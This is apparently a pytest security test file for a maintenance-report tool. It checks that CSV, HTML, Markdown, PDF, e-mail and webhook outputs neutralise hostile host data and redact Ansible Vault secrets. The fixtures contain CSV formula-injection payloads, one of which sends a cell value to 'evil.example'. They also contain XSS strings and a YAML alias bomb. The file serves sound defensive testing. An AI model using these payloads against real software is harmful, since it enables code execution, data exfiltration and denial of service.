"""Reports on hostile input: what a host, a policy or the store says must not turn into code or leak.

A throwaway client ``acme`` is built in tmp_path with a real Ansible Vault (whole-file, with
nested values) whose secret the policy repeats as ``client_name`` and a host repeats inside a
result summary; its hosts report formulas, markup and Markdown links as host names, items and
summaries, and its policy turns host key checking off (``insecure_transport``). Every output
format (JSON, HTML, PDF, CSV, Markdown, the e-mail and the webhook payload) is checked.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
from collections.abc import Iterator
from email.message import EmailMessage
from pathlib import Path
from typing import Any

import pytest
import yaml
from ansible.parsing.vault import VaultLib, VaultSecret

from maintcore.store import Store
from maintctl.cli import main
from maintreport import api, deliver, render
from maintreport.i18n import number
from maintreport.secrets import REDACTED, neutralise_csv_cell

SECRET = "Tr0ub4dor&3-hunter2"  # the vault's password, repeated by the policy as client_name
TOKEN = "tok_9f8e7d6c5b4a"  # a nested vault value, repeated by a host in a summary
VAULT_PASSWORD = "vault-pass-for-acme"
REASON = "the <b>NAS</b> firmware only offers SSH-RSA; ticket #4711"
PERIOD = "2026-11"
RUN = "20261103T193000Z-acme01"
FORMULA_HOST = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
XSS = '<script>alert(1)</script> <img src=x onerror=alert(2)>'
MD_LINK = "[win a prize](http://evil.example/) ![](http://evil.example/pixel.png)"


def _result(host: str, check: str, item: str, status: str, summary: str, **extra: Any) -> dict[str, Any]:
    return {"run_id": RUN, "client": "acme", "host": host, "check": check, "item": item, "status": status,
            "summary": summary, "observed": extra.pop("observed", {}), "threshold": {}, "remediation": "",
            "changed": False, "started": "2026-11-03T19:30:00Z", "finished": "2026-11-03T19:31:00Z", **extra}


HOSTILE_RESULTS = [
    _result(FORMULA_HOST, "run.reachability", "", "ok", "reachable"),
    _result(FORMULA_HOST, "hardware.disk_free", "=cmd|' /C calc'!A0", "critical", XSS,
            observed={"free_pct": 3.0, "note": XSS}, severity="P2", remediation=MD_LINK),
    _result("web01", "hardware.disk_free", "+SUM(1+1)", "warning", f"token {TOKEN} seen in /etc/app.conf",
            observed={"free_pct": 12.0, "leak": TOKEN}),
    _result("web01", "hardware.smart", "@SUM(A1)", "unknown", "-2+3+cmd|' /C calc'!A0"),
    _result("web01", "hardware.temperature", "\tcpu", "ok", "\r=1+1", observed={"celsius": -5}),
    _result("web01", "run.reachability", "", "ok", f"reached as admin / {SECRET}"),
]


def _write_client(inv: Path, name: str, policy: Any, *, raw: bytes | None = None) -> Path:
    folder = inv / name
    (folder / "group_vars" / "all").mkdir(parents=True)
    (folder / "hosts.yml").write_text(yaml.safe_dump({"all": {"hosts": {"h1": {}}}}), encoding="utf-8")
    path = folder / "group_vars" / "all" / "policy.yml"
    if raw is not None:
        path.write_bytes(raw)
    else:
        path.write_text(yaml.safe_dump({"maint_policy": policy}), encoding="utf-8")
    return folder


@pytest.fixture()
def acme(tmp_path: Path, maint_home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    inv = tmp_path / "inventories"
    monkeypatch.setenv("MAINT_INVENTORIES", str(inv))
    monkeypatch.setenv("MAINT_TEST_NOW", "2026-11-10T23:00:00Z")
    policy = {"client_name": SECRET, "timezone": "Europe/Paris",
              "sla": {"response_hours": {"P1": 4, "P2": 8, "P3": 24, "P4": 72}},
              "insecure_transport": {"reason": REASON}}
    folder = _write_client(inv, "acme", policy)
    vault = {"vault_admin_password": SECRET, "vault_api": [{"token": TOKEN, "port": 443}], "vault_short": "abc"}
    lib = VaultLib([("default", VaultSecret(VAULT_PASSWORD.encode()))])
    (folder / "group_vars" / "all" / "vault.yml").write_bytes(lib.encrypt(yaml.safe_dump(vault)))
    (tmp_path / "vault").mkdir(mode=0o700)
    (tmp_path / "vault" / "acme.pass").write_text(VAULT_PASSWORD + "\n", encoding="utf-8")
    maint_home.mkdir(mode=0o700)
    with Store(maint_home / "store.db") as store:
        store.start_run({"run_id": RUN, "client": "acme", "areas": "hardware", "started": "2026-11-03T19:30:00Z",
                         "hosts_total": 2})
        store.finish_run(RUN, "completed", 1, "2026-11-03T19:35:00Z")
        store.add_results(HOSTILE_RESULTS)
    yield inv


def _report(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, *extra: str,
            ) -> tuple[dict[str, Path], list[EmailMessage], list[dict[str, Any]]]:
    """Run ``maintctl report --client acme`` with every format, the e-mail and the webhook captured."""
    sent: list[EmailMessage] = []
    posted: list[dict[str, Any]] = []
    for key, value in {"HOST": "127.0.0.1", "FROM": "reports@msp.example", "TO": "it@acme.example"}.items():
        monkeypatch.setenv(f"MAINT_SMTP_{key}", value)
    monkeypatch.setattr(deliver, "send_email", lambda msg, settings: sent.append(msg))
    monkeypatch.setattr(deliver, "post_webhook", lambda url, payload: posted.append(payload) or 204)
    code = main(["report", "--client", "acme", "--period", PERIOD, "--format", "html,pdf,json,csv,md",
                 "--email", "--webhook", "https://hooks.example/x", *extra])
    out, err = capsys.readouterr()
    assert code == 0, err
    paths = {m[0]: Path(m[1]) for m in re.findall(r"^(\w+): (/.+)$", out, re.M)}
    return paths, sent, posted


def _pdf_text(path: Path) -> str:
    if not shutil.which("pdftotext"):
        pytest.skip("pdftotext (poppler) is not installed")
    return subprocess.run(["pdftotext", "-layout", str(path), "-"], check=True, capture_output=True,
                          text=True).stdout


# -- 1. CSV injection --------------------------------------------------------------------------
@pytest.mark.parametrize(("cell", "shown"), [
    ("=1+1", "'=1+1"), ("+SUM(A1)", "'+SUM(A1)"), ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\tcpu", "'\tcpu"), ("\r=1", "'\r=1"), ("\uff1d1+1", "'\uff1d1+1"),
    ("-12.5", "-12.5"), ("+3", "+3"), ("-1e3", "-1e3"), ("/srv", "/srv"), ("", ""), ("-", "'-"),
    (-5, "-5"), (12.5, "12.5"), (float("nan"), ""), (None, ""),
])
def test_csv_cell_neutralisation(cell: Any, shown: str) -> None:
    assert neutralise_csv_cell(cell) == shown


def test_no_csv_cell_can_become_a_formula(acme: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    paths, _sent, _posted = _report(capsys, monkeypatch)
    rows = list(csv.reader(io.StringIO(paths["csv"].read_text(encoding="utf-8"), newline="")))
    cells = [c for row in rows for c in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")
                 and not re.fullmatch(r"[+-]?\d+(\.\d+)?", c)]
    assert not dangerous, dangerous
    assert "'" + FORMULA_HOST in cells and "'=cmd|' /C calc'!A0" in cells and "'+SUM(1+1)" in cells
    assert "'-2+3+cmd|' /C calc'!A0" in cells and "'\tcpu" in cells


def test_fleet_csv_neutralises_client_names(acme: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _write_client(acme, "beta", {"client_name": "@SUM(1+1)*cmd|' /C calc'!A0", "timezone": "UTC"})
    code = main(["report", "--all", "--period", PERIOD, "--format", "csv"])
    out, err = capsys.readouterr()
    assert code == 0, err
    text = Path(out.split("csv: ", 1)[1].strip()).read_text(encoding="utf-8")
    names = {r["client"]: r["client_name"] for r in csv.DictReader(io.StringIO(text, newline=""))}
    assert names["beta"] == "'@SUM(1+1)*cmd|' /C calc'!A0"


# -- 2. markup in Markdown, e-mail and HTML ----------------------------------------------------
def test_markdown_and_email_carry_no_markup(acme: Path, capsys: pytest.CaptureFixture[str],
                                            monkeypatch: pytest.MonkeyPatch) -> None:
    paths, sent, posted = _report(capsys, monkeypatch)
    md = paths["md"].read_text(encoding="utf-8")
    (msg,) = sent
    body = msg.get_body(preferencelist=("plain",))
    assert body is not None
    for text in (md, body.get_content()):
        assert "<script" not in text and "<img" not in text and "<b>" not in text
        assert "](http" not in text  # no Markdown link or image a viewer would follow
        assert "&lt;b&gt;NAS&lt;/b&gt;" in text  # the insecure_transport reason, shown as text
    assert "\n" not in msg["Subject"]
    body_bytes = deliver.json_body(posted[0])  # what the webhook receives: the same data, no raw markup
    assert b"<" not in body_bytes and b">" not in body_bytes and json.loads(body_bytes) == posted[0]


def test_html_report_escapes_every_host_value(acme: Path, capsys: pytest.CaptureFixture[str],
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    paths, _sent, _posted = _report(capsys, monkeypatch)
    html = paths["html"].read_text(encoding="utf-8")
    body = html.split("<body>", 1)[1]
    assert "<script" not in html and "<img" not in body and "<b>NAS" not in body
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body
    templates = Path(render.__file__).with_name("templates")
    for path in templates.glob("*.j2"):
        assert "|safe" not in path.read_text(encoding="utf-8").replace(" ", ""), path.name


def test_severity_and_status_from_the_store_are_not_trusted(acme: Path, maint_home: Path) -> None:
    with Store(maint_home / "store.db") as store:
        store.db.execute("UPDATE results SET severity='<i>P1</i>' WHERE host='web01'")
        store.db.execute("UPDATE results SET status='<b>fine</b>' WHERE check_id='hardware.smart'")
        store.db.commit()
        doc = api.build_document(store, "acme", period=PERIOD)
    api.validate(doc)
    html = render.render_html(doc)
    assert "<i>P1" not in html and "<b>fine" not in html


# -- 3. vault values never appear --------------------------------------------------------------
def test_vault_values_appear_in_no_output(acme: Path, capsys: pytest.CaptureFixture[str],
                                          monkeypatch: pytest.MonkeyPatch) -> None:
    paths, sent, posted = _report(capsys, monkeypatch, "--locale", "fr")
    assert set(paths) == {"html", "pdf", "json", "csv", "md"}
    forms = [SECRET, TOKEN, json.dumps(SECRET)[1:-1], SECRET.replace("&", "&amp;")]
    outputs = {fmt: p.read_bytes().decode("utf-8", "replace") for fmt, p in paths.items()}
    outputs["pdf"] = _pdf_text(paths["pdf"])
    outputs["email"] = sent[0].as_string()
    outputs["webhook"] = json.dumps(posted[0], ensure_ascii=False)
    for name, text in outputs.items():
        for form in forms:
            assert form not in text, f"a vault value is in the {name} output"
    assert REDACTED in outputs["json"] and REDACTED in outputs["pdf"]
    assert REDACTED in outputs["md"].replace("\\[", "[").replace("\\]", "]")  # escaped for Markdown
    doc = json.loads(outputs["json"])
    assert doc["client_name"] == REDACTED
    leaked = [r for g in doc["appendix"] for r in g["results"] if r["observed"].get("leak")]
    assert leaked and leaked[0]["observed"]["leak"] == REDACTED  # inside observed, the JSON is still valid
    assert "abc" not in doc["client"]  # values under 4 characters are left alone (and "acme" is kept)
    # nothing decrypted was written anywhere under the state folder
    for path in (acme.parent / "home").rglob("*"):
        if path.is_file():
            assert SECRET.encode() not in path.read_bytes() or path.name == "store.db"


def test_a_vault_without_its_password_fails_closed(acme: Path, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "vault" / "acme.pass").unlink()
    code = main(["report", "--client", "acme", "--period", PERIOD, "--format", "md"])
    err = capsys.readouterr().err
    assert code == 2 and "vault" in err and len(err.strip().splitlines()) == 1
    (tmp_path / "vault" / "acme.pass").write_text("wrong\n", encoding="utf-8")
    code = main(["report", "--client", "acme", "--period", PERIOD, "--format", "md"])
    err = capsys.readouterr().err
    assert code == 2 and "vault" in err and VAULT_PASSWORD not in err
    assert not list((acme.parent / "home").rglob("report.md"))


# -- 4. insecure_transport -----------------------------------------------------------------------
@pytest.mark.parametrize(("locale", "warning"), [
    ("en", "host key checking or certificate validation is turned off for this client"),
    ("fr", "la vérification des clés d'hôte ou des certificats est désactivée pour ce client"),
])
def test_insecure_transport_is_shown_near_the_top(acme: Path, capsys: pytest.CaptureFixture[str],
                                                  monkeypatch: pytest.MonkeyPatch, locale: str,
                                                  warning: str) -> None:
    paths, sent, posted = _report(capsys, monkeypatch, "--locale", locale)
    shown_reason = "the &lt;b&gt;NAS&lt;/b&gt; firmware only offers SSH-RSA"
    doc = json.loads(paths["json"].read_text(encoding="utf-8"))
    assert doc["insecure_transport"] == {"reason": REASON}
    html = paths["html"].read_text(encoding="utf-8").replace("&#39;", "'")
    top = html.split('<section id="summary">', 1)[0]
    assert warning in top and shown_reason in top
    md_head = "\n".join(paths["md"].read_text(encoding="utf-8").splitlines()[:4])
    assert warning in md_head and shown_reason in md_head
    pdf_head = " ".join(_pdf_text(paths["pdf"]).split())[:1500]
    assert warning in pdf_head.replace("’", "'")
    rows = list(csv.DictReader(io.StringIO(paths["csv"].read_text(encoding="utf-8"), newline="")))
    assert rows and all(r["insecure_transport"] == REASON for r in rows)
    body = sent[0].get_body(preferencelist=("plain",))
    assert body is not None and warning in body.get_content()
    assert posted[0]["insecure_transport"] == {"reason": REASON}


def test_no_warning_without_insecure_transport(acme: Path) -> None:
    policy_path = acme / "acme" / "group_vars" / "all" / "policy.yml"
    data = yaml.safe_load(policy_path.read_text(encoding="utf-8"))
    del data["maint_policy"]["insecure_transport"]
    policy_path.write_text(yaml.safe_dump(data), encoding="utf-8")
    with Store() as store:
        doc = api.build_document(store, "acme", period=PERIOD)
    assert doc["insecure_transport"] is None
    assert "turned off" not in render.render_md(doc) and "turned off" not in render.render_html(doc)


# -- 5. the fleet overview survives one client's bad input ------------------------------------
ALIAS_BOMB = b"""\
a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]
b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]
c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]
d: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]
e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]
f: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]
g: &g [*f,*f,*f,*f,*f,*f,*f,*f,*f]
h: &h [*g,*g,*g,*g,*g,*g,*g,*g,*g]
maint_policy: {client_name: *h, timezone: UTC}
"""


def test_fleet_reports_every_other_client_when_one_is_bad(acme: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _write_client(acme, "good", {"client_name": "Good Ltd", "timezone": "UTC"})
    _write_client(acme, "b-invalid", None, raw=b"maint_policy: {client_name: [unclosed\n")
    _write_client(acme, "b-binary", None, raw=b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xfe" * 50)
    _write_client(acme, "b-bomb", None, raw=ALIAS_BOMB)
    _write_client(acme, "b-types", {"client_name": "Types", "timezone": "Mars/Olympus",
                                    "report": {"score_weights": {"hardware": ".nan"}, "trend_months": "x"}})
    _write_client(acme, "b-section", {"client_name": "Section", "timezone": "UTC", "report": "oops",
                                      "sla": ["P1"]})
    _write_client(acme, "b-long", None, raw=b"maint_policy: {client_name: '" + b"x" * 5000 + b"\n")
    code = main(["report", "--all", "--period", PERIOD, "--format", "json,html,csv,md"])
    out, err = capsys.readouterr()
    assert code != 0
    lines = err.strip().splitlines()
    bad = ["b-binary", "b-bomb", "b-invalid", "b-long", "b-section", "b-types"]
    assert sorted(line.split("client ", 1)[1].split(":", 1)[0] for line in lines) == bad, lines
    assert all(len(line) <= 300 for line in lines), [len(line) for line in lines]
    written = {m[0]: Path(m[1]) for m in re.findall(r"^(\w+): (/.+)$", out, re.M)}
    assert set(written) == {"json", "html", "csv", "md"}
    doc = json.loads(written["json"].read_text(encoding="utf-8"))
    rows = {c["client"]: c for c in doc["clients"]}
    assert rows["good"]["client_name"] == "Good Ltd" and rows["acme"]["runs"] == 1
    assert all(rows[b]["error"] for b in bad) and rows["good"]["error"] is None


def test_one_bad_client_alone_is_one_short_line(acme: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _write_client(acme, "b-binary", None, raw=b"\xff\xfe\x00garbage" * 100)
    code = main(["report", "--client", "b-binary", "--period", PERIOD])
    err = capsys.readouterr().err
    assert code == 2 and len(err.strip().splitlines()) == 1 and len(err.strip()) <= 300
    assert "internal error" not in err


# -- garbage in the store ----------------------------------------------------------------------
def test_garbage_in_the_store_does_not_crash_rendering(acme: Path, maint_home: Path) -> None:
    with Store(maint_home / "store.db") as store:
        db = store.db
        db.execute("UPDATE results SET observed='{\"free_pct\": NaN, \"x\": Infinity}' WHERE host='web01'"
                   " AND check_id='hardware.disk_free'")
        db.execute("UPDATE results SET observed='{\"free_pct\": \"twelve\"}' WHERE item LIKE '=cmd%'")
        db.execute("UPDATE results SET observed='not json', threshold='[1, 2]' WHERE check_id='hardware.smart'")
        db.execute("UPDATE results SET changed='yes', severity=42 WHERE check_id='hardware.temperature'")
        db.execute("UPDATE runs SET hosts_total='many', exit_code=1.5")
        db.commit()
        doc = api.build_document(store, "acme", period=PERIOD)
        api.validate(doc)
        text = "".join(render.json_chunks(doc))
        parsed = json.loads(text, parse_constant=lambda c: pytest.fail(f"{c} in the JSON"))
        assert parsed["runs"][0]["hosts_total"] is None
        assert render.render_html(doc) and render.render_md(doc) and render.render_csv(doc)
        assert render.render_pdf(render.render_html(doc)).startswith(b"%PDF-")
    nan_doc = {**doc, "summary": {**doc["summary"], "score": float("nan")}}
    assert not re.search(r"\bnan\b", render.render_md(nan_doc), re.I)
    assert number(float("nan"), "en") == "-" and number("12", "en") == "12" and number(float("inf"), "fr") == "-"
